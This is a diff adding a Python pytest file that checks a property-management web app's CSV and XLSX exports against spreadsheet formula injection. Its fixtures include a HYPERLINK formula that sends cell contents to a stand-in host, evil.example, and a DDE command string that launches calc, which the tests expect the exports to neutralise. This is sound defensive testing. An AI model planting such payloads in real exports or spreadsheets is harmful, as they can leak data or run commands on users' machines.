@@ -1,0 +1,109 @@
+"""The web layer under hostile input (issue 11): exports, request bodies, reminders by hand, security
+headers, odd input and who may export what."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import httpx
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import func, select, update
+
+from desk.app import create_app
+from estate.billing import generate_monthly_bills
+from estate.errors import NotFound
+from estate.models import FeeItem, OutboundMessage, Resident, Ticket
+from estate.reports import to_csv, to_xlsx
+from estate.tickets import create_ticket
+from tests.console_support import console_world, sign_in
+
+EN = {"Accept-Language": "en-US,en;q=0.8"}
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+BIG = 2**63  # one past the largest id a BIGINT column holds
+
+
+@pytest.fixture
+async def world(ctx):
+    w = await console_world(ctx)
+    async with ctx.sessions() as s, s.begin():
+        s.add(
+            FeeItem(
+                estate_id=w.estate.id,
+                code="management",
+                name="Management fee",
+                kind="per_area",
+                unit_price_cents=185,
+            )
+        )
+    async with ctx.sessions() as s, s.begin():
+        await generate_monthly_bills(s, clock=ctx.clock, estate_id=w.estate.id, period="2026-10")
+    return w
+
+
+def client_for(app, base_url: str = "http://t") -> httpx.AsyncClient:
+    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url=base_url)
+
+
+async def new_ticket(ctx, world, text: str) -> Ticket:
+    async with ctx.sessions() as s, s.begin():
+        return await create_ticket(
+            s,
+            clock=ctx.clock,
+            estate_id=world.estate.id,
+            kind="repair",
+            category_code="plumbing",
+            description=text,
+            resident_id=world.resident.id,
+            channel_account_id=world.account.id,
+        )
+
+
+async def queued(ctx) -> int:
+    async with ctx.sessions() as s:
+        return (await s.execute(select(func.count()).select_from(OutboundMessage))).scalar_one()
+
+
+# --- item 8: spreadsheet formula injection ---------------------------------------------------------
+
+
+def test_export_cells_that_would_start_a_formula_are_neutralised_and_numbers_stay_numbers():
+    row = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "plain", "", 42, 3.5]
+    parsed = list(csv.reader(io.StringIO(to_csv(["a"] * len(row), [row]).decode("utf-8-sig"))))
+    assert parsed[1][:6] == ["'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1"]
+    assert parsed[1][6:] == ["plain", "", "42", "3.5"]
+
+    sheet = load_workbook(io.BytesIO(to_xlsx(["=head"], [row]))).active
+    cells = list(sheet.iter_rows())
+    assert cells[0][0].value == "'=head" and cells[0][0].data_type == "s"
+    texts, numbers = cells[1][:8], cells[1][8:]
+    assert [c.value for c in texts[:5]] == ["'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1"]
+    assert texts[5].value in ("'\r=1", "'\n=1")  # XML reads a lone CR back as LF
+    assert all(c.data_type == "s" for c in texts[:7])
+    assert [(c.value, c.data_type) for c in numbers] == [(42, "n"), (3.5, "n")]
+
+
+async def test_a_residents_formula_reaches_no_export_as_a_formula(ctx, world):
+    await new_ticket(ctx, world, FORMULA)
+    async with ctx.sessions() as s, s.begin():
+        await s.execute(update(Resident).values(name="@cmd|' /C calc'!A0"))
+    ctx.clock.set(ctx.clock.now().replace(day=28))
+    async with client_for(create_app(ctx)) as c:
+        csrf = await sign_in(c, "manager")
+        made = await c.post("/console/reports/make", data={"csrf": csrf, "kind": "arrears_report"})
+        assert made.status_code == 303
+        listing = (await c.get("/console/reports")).text
+        report_id = re.search(r"/console/reports/(\d+)\?format=xlsx", listing).group(1)
+        xlsx = await c.get(f"/console/reports/{report_id}?format=xlsx")
+        report_csv = await c.get(f"/console/reports/{report_id}?format=csv")
+        tickets_csv = await c.get("/console/export/tickets.csv")
+    tickets = list(csv.reader(io.StringIO(tickets_csv.content.decode("utf-8-sig"))))
+    assert tickets[1][tickets[0].index("description")] == "'" + FORMULA
+    arrears = list(csv.reader(io.StringIO(report_csv.content.decode("utf-8-sig"))))
+    assert arrears[1][1] == "'@cmd|' /C calc'!A0"
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    assert sheet["B2"].value == "'@cmd|' /C calc'!A0" and sheet["B2"].data_type == "s"
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
